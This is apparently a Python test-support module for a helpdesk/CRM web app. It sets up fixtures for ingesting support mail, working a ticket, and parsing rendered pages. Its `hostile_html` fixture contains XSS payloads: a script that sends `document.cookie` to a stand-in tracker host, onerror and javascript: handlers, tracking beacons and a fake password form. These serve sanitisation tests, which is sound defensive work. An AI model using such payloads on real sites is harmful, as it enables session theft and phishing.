"""What the page tests share: a desk configured for the pages (`EXTRA`: Ana, the reply secret, SLA targets),
a ticket worked through the real ingest (`work_a_ticket`), HTML and hostile mail, the pages' app with the
real `require` of `inboxcrm.web.auth` (`pages_app`), report figures shaped as the real queries give them,
and `Document`, the parts of a page the tests look at."""

from __future__ import annotations

from collections.abc import Callable, Mapping
from datetime import UTC, datetime, timedelta
from email.message import EmailMessage
from html.parser import HTMLParser
from typing import Any

from fastapi import FastAPI
from sqlalchemy import insert, select

from inboxcrm import bootstrap
from inboxcrm.adapters.db import tables as t
from inboxcrm.core.model import MailboxKind, MailboxProfile
from inboxcrm.core.ports import FetchedMessage
from inboxcrm.core.reply_tokens import relay_address
from inboxcrm.services.access import Access, ConfiguredToken
from inboxcrm.services.desk import tick_tickets
from inboxcrm.web.auth import Require, Scope, authenticate
from inboxcrm.web.pages import page_routes
from tests.support.clock import Clock
from tests.support.desk import ANA, SLA, desk_config
from tests.support.mail import mail

SUPPORT = MailboxProfile("support", MailboxKind.SUPPORT, frozenset({"support@northwind.example"}))
SECRET = "test-secret"
TOKEN = "page-reader-token"
EXTRA = desk_config(ANA.but(display_name="Ana Alves"), secret=SECRET) + SLA
START = datetime(2026, 11, 2, 10, 5, tzinfo=UTC)  # the test clock's time when a test begins

_uid = iter(range(1, 1_000_000))


def ingest(app: bootstrap.App, *raws: bytes) -> None:
    app.ingest.ingest_batch(SUPPORT, "INBOX", 1, [FetchedMessage(next(_uid), r) for r in raws])


def html_mail(body: str, *, subject: str = "Invoice overdue", message_id: str = "h1@acme-corp.example") -> bytes:
    """A customer's multipart/alternative mail: a short text part and `body` as the HTML part."""
    message = EmailMessage()
    message["From"] = "Carol Danvers <carol@acme-corp.example>"
    message["To"] = "support@northwind.example"
    message["Subject"] = subject
    message["Message-ID"] = f"<{message_id}>"
    message["Date"] = "Mon, 02 Nov 2026 12:00:00 +0000"
    message.set_content("Your invoice is overdue (text part).\n")
    message.add_alternative(body, subtype="html")
    return message.as_bytes()


def hostile_html(tracker: str = "https://tracker.example") -> str:
    """A mail that tries every way we know to run script, phone home or phish from inside our page."""
    return f"""<html><head><style>body{{background:url({tracker}/bg.png)}}</style>
<link rel="stylesheet" href="{tracker}/style.css"></head><body onload="steal()">
<script>fetch('{tracker}/script?c=' + document.cookie)</script>
<h2>Dear customer,</h2>
<p>Your invoice <b>INV-7</b> is overdue.</p>
<img src="{tracker}/p.gif" width="1" height="1" alt="">
<img src="x" onerror="fetch('{tracker}/onerror')">
<img src="data:image/gif;base64,R0lGODlhAQABAIAAAP///wAAACH5BAEAAAAALAAAAAABAAEAAAICRAEAOw==" alt="dot">
<a href="javascript:fetch('{tracker}/js')">Pay now</a>
<a href="https://acme-corp.example/invoice">See the invoice</a>
<p style="color:#a00;background-image:url({tracker}/bg2.png)">Kind regards</p>
<form action="{tracker}/login"><input name="password"></form>
</body></html>"""


def message_html_of(app: bootstrap.App) -> Callable[[int], str | None]:
    """What `message_html` will be in production: the stored HTML body (`messages.html`) of a message."""

    def message_html(message_id: int) -> str | None:
        with app.engine.connect() as connection:
            return connection.execute(select(t.messages.c.html).where(t.messages.c.id == message_id)).scalar()

    return message_html


def report_data(since: datetime, until: datetime) -> Mapping[str, Any]:
    """Figures shaped as the real report queries give them (the pages do not compute them)."""
    day = until.date()
    return {
        "tickets_by_day": [
            {"day": (day - timedelta(days=n)).isoformat(), "count": c} for n, c in enumerate([3, 0, 5, 2, 8, 1, 4])
        ],
        "funnel": [
            {"stage": "subscriber", "contacts": 120},
            {"stage": "lead", "contacts": 60},
            {"stage": "sql", "contacts": 18},
            {"stage": "customer", "contacts": 7},
        ],
        "scores": [
            {"bucket": f"{lo}–{lo + 10}", "contacts": n}
            for lo, n in zip(range(0, 100, 10), [9, 14, 20, 11, 7, 5, 3, 2, 1, 1], strict=True)
        ],
        "pipeline": [{"stage": "proposal", "deals": 3, "value": 4200.0}, {"stage": "won", "deals": 2, "value": 9000.0}],
    }


def real_require(rate_limit: int = 1000) -> Require:
    """The `require` that create_app builds (`app.state.require`), with one read-only configured token."""
    return authenticate(Access([ConfiguredToken(TOKEN, "pages", Scope.READ)], rate_limit=rate_limit))


def pages_app(app: bootstrap.App, require: Require | None = None, *, reports: bool = True) -> FastAPI:
    web = FastAPI()
    web.include_router(
        page_routes(
            app.reads,
            require or real_require(),
            message_html_of(app),
            report_data if reports else None,
            pipeline_stages=("proposal", "won"),
        )
    )
    return web


def work_a_ticket(app: bootstrap.App, clock: Clock) -> None:
    """Carol writes; Ana answers through the relay with commands and a note; Carol answers quoting her; the
    first-response target is missed; campaign and score events are on Carol's timeline too."""
    ingest(app, mail(message_id="c1@acme-corp.example"))
    relay = relay_address("support@northwind.example", 1, False, datetime(2027, 1, 1).date(), SECRET.encode())
    clock.now = datetime(2026, 11, 2, 15, 0, tzinfo=UTC)
    tick_tickets(app.store, app.support, clock.now)  # 5 h without an answer: the 4 h target is missed
    ingest(
        app,
        mail(
            from_="Ana Alves <ana@northwind.example>",
            to=relay,
            subject="Re: [#1] New ticket: Printer on fire",
            message_id="a1@northwind.example",
            body="#assign ana\n#priority high\n#tag hardware\n\nHi Carol,\n\nplease unplug it first.\n\nAna\n",
            date="Mon, 02 Nov 2026 15:10:00 +0000",
        ),
    )
    ingest(
        app,
        mail(
            message_id="c2@acme-corp.example",
            subject="Re: Printer on fire [#1]",
            in_reply_to="c1@acme-corp.example",
            body="Unplugged, it still smokes.\n\nOn Mon, 2 Nov 2026 at 15:10, Northwind Support wrote:\n"
            "> Hi Carol,\n> please unplug it first.\n",
            date="Mon, 02 Nov 2026 16:00:00 +0000",
        ),
    )
    with app.engine.begin() as connection:
        at = datetime(2026, 11, 3, 9, 0)
        connection.execute(
            insert(t.timeline_events),
            [
                {"contact_id": 1, "at": at, "kind": "score_changed", "summary": "Score +10: opened a ticket"},
                {"contact_id": 1, "at": at, "kind": "stage_changed", "summary": "Stage lead → customer"},
                {"contact_id": 1, "at": at, "kind": "campaign_enrolled", "summary": "Enrolled in campaign onboarding"},
                {"contact_id": 1, "at": at, "kind": "mail_sent", "summary": "onboarding step 1 sent"},
                {"contact_id": 1, "at": at, "kind": "campaign_replied", "summary": "Replied to onboarding step 1"},
                {"contact_id": 1, "at": at, "kind": "campaign_unsubscribed", "summary": "Unsubscribed from onboarding"},
            ],
        )


class Document(HTMLParser):
    """The parts of a page the tests look at: every start tag with its (unescaped) attributes, and text."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.texts: list[str] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {k: v or "" for k, v in attrs}))

    def handle_data(self, data: str) -> None:
        if data.strip():
            self.texts.append(data.strip())

    def all(self, tag: str) -> list[dict[str, str]]:
        return [attrs for name, attrs in self.tags if name == tag]
